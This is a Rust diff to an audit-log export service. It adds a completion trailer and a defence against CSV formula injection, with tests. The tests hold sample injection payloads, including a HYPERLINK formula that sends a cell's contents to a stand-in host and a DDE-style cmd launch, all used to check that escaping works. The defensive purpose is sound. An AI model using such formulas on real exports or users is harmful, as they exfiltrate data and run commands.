@@ -2,6 +2,11 @@
 //! at a time (keyset pagination, constant memory whatever the size). The export is audited
 //! before its first byte, and it holds the log as it stood then: the events before its own
 //! `audit_queried` record.
+//!
+//! The status line is sent before the events are read, so a failure midway can only cut the
+//! body short. A complete export therefore ends with a trailer saying so and how many events it
+//! holds (`{"complete":true,"n_events":N}`, or a CSV row `#complete,N`); a download without it
+//! was cut short. CSV cells that a spreadsheet would take for a formula get a `'` in front.
 
 use std::sync::Arc;
 
@@ -45,6 +50,9 @@ pub const CSV_COLUMNS: [&str; 19] = [
     "prev_hash",
     "hash",
 ];
+
+/// The first cell of the CSV trailer (no position looks like it).
+pub const CSV_COMPLETE: &str = "#complete";
 
 /// How an export is written.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
@@ -91,6 +99,25 @@ impl Format {
         }
     }
 
+    /// The last line of a complete export of `n_events` events.
+    fn trailer(self, n_events: u64) -> Bytes {
+        match self {
+            Format::Jsonl => {
+                let mut line =
+                    serde_json::json!({"complete": true, "n_events": n_events}).to_string();
+                line.push('\n');
+                Bytes::from(line)
+            }
+            Format::Csv => {
+                // As many cells as the header, so that the file stays rectangular.
+                let mut row = format!("{CSV_COMPLETE},{n_events}");
+                row.push_str(&",".repeat(CSV_COLUMNS.len() - 2));
+                row.push_str("\r\n");
+                Bytes::from(row)
+            }
+        }
+    }
+
     /// A page of records, written out.
     fn write(self, records: &[Record]) -> Result<Bytes, serde_json::Error> {
         let mut out = Vec::with_capacity(records.len() * 640);
@@ -126,11 +153,7 @@ pub(super) async fn export(inquiry: Inquiry, RawQuery(query): RawQuery) -> Resul
     };
     let own = inquiry.audited("export", asked, 0).await?;
     let body = futures_util::stream::iter(format.header().map(Ok))
-        .chain(
-            pages(app, filter, own.position).and_then(move |records| async move {
-                format.write(&records).map_err(BoxError::from)
-            }),
-        )
+        .chain(written(format, pages(app, filter, own.position)))
         .inspect_err(|error| {
             tracing::error!(%error, "the audit export failed midway; its body is cut short");
         });
@@ -147,7 +170,7 @@ pub(super) async fn export(inquiry: Inquiry, RawQuery(query): RawQuery) -> Resul
 /// The format and the filter of an export's query string. `limit` is refused: an export holds
 /// everything the filter selects.
 fn parse(query: &str) -> Result<(Format, Filter), Error> {
-    let pairs: Vec<(String, String)> = parse_query(query)?;
+    let pairs: Vec<(String, String)> = parse_query(Some(query))?;
     let mut format = Format::Jsonl;
     let mut rest = Vec::with_capacity(pairs.len());
     for (name, value) in pairs {
@@ -169,7 +192,7 @@ fn parse(query: &str) -> Result<(Format, Filter), Error> {
     }
     let rest = serde_urlencoded::to_string(&rest)
         .map_err(|error| Error::InvalidRequest(error.to_string()))?;
-    Ok((format, parse_query(&rest)?))
+    Ok((format, parse_query(Some(&rest))?))
 }
 
 /// Where the export has got to.
@@ -223,6 +246,30 @@ fn pages(
     })
 }
 
+/// The pages written out in `format`, then the trailer; an error ends the stream at once, so
+/// a failed export never has a trailer.
+fn written(
+    format: Format,
+    pages: impl Stream<Item = Result<Vec<Record>, BoxError>> + Send + 'static,
+) -> impl Stream<Item = Result<Bytes, BoxError>> + Send + 'static {
+    let pages = Box::pin(pages);
+    futures_util::stream::try_unfold(
+        (pages, 0u64, false),
+        move |(mut pages, n_events, ended)| async move {
+            if ended {
+                return Ok(None);
+            }
+            Ok(Some(match pages.try_next().await? {
+                Some(records) => {
+                    let bytes = format.write(&records)?;
+                    (bytes, (pages, n_events + records.len() as u64, false))
+                }
+                None => (format.trailer(n_events), (pages, n_events, true)),
+            }))
+        },
+    )
+}
+
 /// Appends one CSV row (CRLF-terminated) for `record`, in the order of [`CSV_COLUMNS`].
 fn csv_row(out: &mut Vec<u8>, record: &Record) {
     let event = &record.event;
@@ -257,9 +304,23 @@ fn csv_row(out: &mut Vec<u8>, record: &Record) {
     out.extend_from_slice(b"\r\n");
 }
 
+/// The first characters that get a `'` in front: what a spreadsheet takes for the start of a
+/// formula (OWASP, CSV injection: `=`, `+`, `-`, `@`, tab, CR), and `'` itself, so that
+/// dropping one leading `'` always gives the value back.
+pub const CSV_ESCAPED_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
 /// Appends `field` as RFC 4180 says: in double quotes (doubled inside) when it holds a comma,
-/// a double quote, CR or LF; as it is otherwise.
+/// a double quote, CR or LF; as it is otherwise. A field that starts with one of
+/// [`CSV_ESCAPED_STARTS`] gets a `'` in front, so that a spreadsheet shows it as the text it
+/// is instead of evaluating it (and shows `'…` as `'…`).
 fn push_csv_field(out: &mut Vec<u8>, field: &str) {
+    let neutralised;
+    let field = if field.starts_with(CSV_ESCAPED_STARTS) {
+        neutralised = format!("'{field}");
+        neutralised.as_str()
+    } else {
+        field
+    };
     if field.contains([',', '"', '\r', '\n']) {
         out.push(b'"');
         out.extend_from_slice(field.replace('"', "\"\"").as_bytes());
@@ -292,13 +353,89 @@ mod tests {
     }
 
     #[test]
+    fn csv_fields_a_spreadsheet_would_evaluate_are_neutralised() {
+        check(
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"",
+        );
+        check("=1+2", "'=1+2");
+        check("+1", "'+1");
+        check("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0");
+        check("@SUM(A1:A2)", "'@SUM(A1:A2)");
+        check("\tx", "'\tx");
+        check("\rx", "\"'\rx\"");
+        // Only the first character counts; a leading `'` is doubled, so one can be dropped.
+        check("a=1", "a=1");
+        check(" =1", " =1");
+        check("'=1", "''=1");
+        check("'", "''");
+    }
+
+    #[test]
+    fn a_complete_export_ends_with_its_trailer() {
+        assert_eq!(
+            Format::Jsonl.trailer(3),
+            Bytes::from("{\"complete\":true,\"n_events\":3}\n")
+        );
+        let row = Format::Csv.trailer(12);
+        assert_eq!(row, Bytes::from("#complete,12,,,,,,,,,,,,,,,,,\r\n"));
+        assert_eq!(
+            std::str::from_utf8(&row)
+                .unwrap()
+                .trim_end()
+                .split(',')
+                .count(),
+            CSV_COLUMNS.len()
+        );
+    }
+
+    #[tokio::test]
+    async fn a_failed_page_ends_the_export_without_its_trailer() {
+        let page = |n: i64| -> Result<Vec<Record>, BoxError> {
+            Ok(crate::audit::link(
+                n,
+                crate::audit::GENESIS,
+                vec![crate::audit::Event::new(
+                    crate::audit::Action::AuditQueried,
+                    "x",
+                    crate::audit::Decision::Allow,
+                )],
+            ))
+        };
+        let whole: Vec<Bytes> = written(
+            Format::Jsonl,
+            futures_util::stream::iter([page(0), page(1)]),
+        )
+        .try_collect()
+        .await
+        .unwrap();
+        assert_eq!(whole.len(), 3);
+        assert_eq!(whole[2], Format::Jsonl.trailer(2));
+
+        let failing = futures_util::stream::iter([page(0), Err("page 2 failed".into()), page(2)]);
+        let parts: Vec<Result<Bytes, BoxError>> = written(Format::Csv, failing).collect().await;
+        assert_eq!(parts.len(), 2, "one page, then the error, then nothing");
+        assert!(parts[0].is_ok() && parts[1].is_err());
+    }
+
+    #[test]
     fn export_queries_take_a_format_and_the_filters_but_no_limit() {
         let (format, filter) = parse("format=csv&platform=p&after=7").unwrap();
         assert_eq!(format, Format::Csv);
         assert_eq!(filter.platform.as_deref(), Some("p"));
         assert_eq!(filter.after, Some(7));
         assert_eq!(parse("").unwrap(), (Format::Jsonl, Filter::default()));
-        for bad in ["format=xml", "limit=5", "colour=red", "decision=maybe"] {
+        for bad in [
+            "format=xml",
+            "limit=5",
+            "colour=red",
+            "decision=maybe",
+            "platform=%00",
+            "bank=a%00b",
+            "consent=%00",
+            "purpose=%00",
+            "user_ref=%00",
+        ] {
             assert!(matches!(parse(bad), Err(Error::InvalidRequest(_))), "{bad}");
         }
     }
